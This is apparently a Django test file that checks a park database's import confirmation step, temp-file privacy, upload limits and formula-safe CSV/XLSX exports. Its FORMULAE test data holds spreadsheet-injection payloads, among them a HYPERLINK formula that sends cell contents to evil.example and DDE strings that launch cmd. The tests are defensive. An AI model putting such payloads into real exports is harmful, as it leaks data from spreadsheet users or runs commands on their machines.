"""Imports and exports that cannot be turned against the server or a spreadsheet user (issue 17)."""

import csv
import io
import os
import tempfile

import tablib
from django.db import connection
from django.test import TestCase, override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from articles.tests.factories import make_article, make_series
from parks.models import Park
from parks.resources import ParkResource
from parks.tests.factories import make_park, make_province
from rustbelt.publishing.testing import admin_form_data, make_staff
from rustbelt.tests.workflow import test_import_export

HEADER, THREE_VALID_ROWS = test_import_export.HEADER, test_import_export.THREE_VALID_ROWS

FORMULAE = {
    "name_en": '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "city": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
}


class PendingImportTests(TestCase):
    """The confirm step never trusts a posted file name."""

    # The same accounts, provinces and upload as the import tests (their tests are not rerun here).
    setUpTestData = test_import_export.ParkImportAdminTests.__dict__["setUpTestData"]
    upload = test_import_export.ParkImportAdminTests.upload

    def confirm_with(self, name):
        action = reverse("admin:parks_park_process_import")
        data = admin_form_data(self.upload(THREE_VALID_ROWS), action=action)
        data["import_file_name"] = [name]
        return self.client.post(action, data, follow=True)

    def test_another_file_in_the_temp_folder_is_neither_read_nor_deleted(self):
        with tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False) as victim:
            victim.write(THREE_VALID_ROWS)
        self.addCleanup(os.remove, victim.name)
        response = self.confirm_with(os.path.basename(victim.name))
        self.assertContains(response, "This import is no longer waiting for confirmation")
        self.assertTrue(os.path.exists(victim.name))
        self.assertFalse(Park.objects.exists())

    def test_a_missing_name_is_a_message_not_a_500(self):
        response = self.confirm_with("0123456789abcdef0123456789abcdef")
        self.assertEqual(response.status_code, 200)
        self.assertContains(response, "This import is no longer waiting for confirmation")

    def test_another_users_pending_import_cannot_be_confirmed(self):
        preview = self.upload(THREE_VALID_ROWS)
        action = reverse("admin:parks_park_process_import")
        data = admin_form_data(preview, action=action)
        self.client.force_login(self.editor)  # a different session
        response = self.client.post(action, data, follow=True)
        self.assertContains(response, "This import is no longer waiting for confirmation")
        self.assertFalse(Park.objects.exists())

    def test_pending_files_are_private(self):
        self.upload(THREE_VALID_ROWS)
        from django.conf import settings

        files = list(os.scandir(settings.IMPORT_TMP_DIR))
        self.assertTrue(files)
        for entry in files:
            self.assertEqual(entry.stat().st_mode & 0o077, 0, entry.path)

    @override_settings(IMPORT_MAX_BYTES=100)
    def test_a_file_above_the_byte_limit_is_refused_with_the_limit(self):
        response = self.upload(THREE_VALID_ROWS)
        self.assertContains(response, "imports are limited to 100\xa0bytes")
        self.assertNotContains(response, "Confirm import")

    @override_settings(IMPORT_MAX_ROWS=2)
    def test_a_file_above_the_row_limit_is_refused_with_the_limit(self):
        response = self.upload(THREE_VALID_ROWS)
        self.assertContains(response, "This file has 3 rows; imports are limited to 2 rows per file.")
        self.assertNotContains(response, "Confirm import")
        self.assertNotContains(response, "Below is a preview")

    def test_a_slug_twice_is_refused_with_both_row_numbers(self):
        rows = THREE_VALID_ROWS.splitlines()
        duplicate = rows[1].replace("Jilin Economic and Technological Development Zone", "Jilin ETDZ second row")
        response = self.upload("\n".join([*rows, duplicate]) + "\n")
        self.assertContains(response, "The slug “jilin-etdz” appears twice, in rows 1 and 4. Keep one of them.")
        self.assertNotContains(response, "Confirm import")
        self.assertFalse(Park.objects.exists())

    def test_a_header_only_file_is_still_reported(self):
        response = self.upload(HEADER)
        self.assertEqual(response.status_code, 200)


class FormulaExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.editor = make_staff("eddie", "Editors")
        make_park(slug="evil", province=make_province(), **FORMULAE)

    def admin_export(self, file_format):
        self.client.force_login(self.editor)
        url = reverse("admin:parks_park_export")
        data = admin_form_data(self.client.get(url), action="")
        return self.client.post(url, {**data, "format": file_format})

    def assert_neutral(self, cells):
        for name, value in FORMULAE.items():
            self.assertEqual(cells[name], "'" + value, name)

    def test_admin_csv(self):
        rows = list(csv.DictReader(io.StringIO(self.admin_export("0").content.decode())))
        self.assert_neutral(rows[0])

    def test_admin_xlsx(self):
        dataset = tablib.Dataset().load(self.admin_export("1").content, format="xlsx")
        self.assert_neutral(dataset.dict[0])

    def test_public_csv(self):
        content = b"".join(self.client.get(reverse("parks:export-csv")).streaming_content).decode("utf-8-sig")
        row = next(csv.DictReader(io.StringIO(content)))
        self.assertIn("'" + FORMULAE["name_en"], row.values())
        self.assertIn("'" + FORMULAE["city"], row.values())
        for value in row.values():
            self.assertFalse(value.startswith(("=", "+", "@", "\t", "\r")), value)

    def test_figures_csv_and_numbers_stay_numbers(self):
        article = make_article()
        series = make_series(article, points=(("2000", "-1.5"),))
        series.points.update(note="=1+1")
        url = reverse("articles:series-csv", args=[article.slug, series.slug])
        row = next(csv.DictReader(io.StringIO(self.client.get(url).content.decode())))
        self.assertEqual(row["note"], "'=1+1")
        self.assertEqual(row["value"], "-1.5")


class DryRunCostTests(TestCase):
    """The preview of a large file must fit in one request: its cost per row is bounded and small."""

    @classmethod
    def setUpTestData(cls):
        test_import_export.ParkImportAdminTests.__dict__["setUpTestData"].__func__(cls)

    def dry_run_queries(self, rows):
        row = THREE_VALID_ROWS.splitlines()[1].split(",", 1)[1]
        content = HEADER + "".join(f"park-{n}," + row.replace("Jilin Economic", f"Park {n} Economic") + "\n"
                                   for n in range(rows))
        dataset = tablib.Dataset().load(content, format="csv")
        with CaptureQueriesContext(connection) as queries:
            result = ParkResource().import_data(dataset, dry_run=True, use_transactions=True)
        self.assertEqual(result.totals["new"], rows)
        return [query["sql"] for query in queries.captured_queries]

    def test_queries_per_row_are_few_and_nothing_is_recorded(self):
        ten, twenty = self.dry_run_queries(10), self.dry_run_queries(20)
        # Related rows are looked up once per file, parks in one query, and no history or cache generation
        # is written for rows that are rolled back. What is left per row: a savepoint and its release,
        # the slug's unique check, two foreign-key checks, the insert, four queries per many-to-many
        # column, and reading the links back for the preview's diff (over 20 queries per row before).
        self.assertLessEqual((len(twenty) - len(ten)) / 10, 14)
        self.assertFalse([sql for sql in twenty if "historical" in sql.lower() or "contentgeneration" in sql.lower()])
